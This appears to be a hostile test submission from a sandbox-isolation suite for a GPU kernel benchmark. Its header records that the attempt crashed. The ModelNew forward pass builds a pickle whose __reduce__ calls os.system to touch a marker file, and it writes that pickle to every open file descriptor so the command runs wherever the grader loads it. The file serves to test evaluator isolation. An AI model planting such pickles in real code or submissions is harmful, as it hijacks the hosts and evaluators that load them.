# problem: relu_add
# rows: isolation 52, kernelbench E3
# verdict: crashed
# reason: protocol
# marker: /tmp/caesar-hostile-marker-pickle
# limit: 20
# note: sends a pickle that runs a command wherever it is loaded
import os
import pickle
import socket
import stat

import torch
from torch import nn


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/caesar-hostile-marker-pickle",)


class ModelNew(nn.Module):
    def forward(self, x, y):
        data = pickle.dumps(Command())
        for name in os.listdir("/proc/self/fd"):
            number = int(name)
            if number < 3:
                continue
            try:
                os.write(number, data)
            except OSError:
                continue
        return torch.relu(x + y)
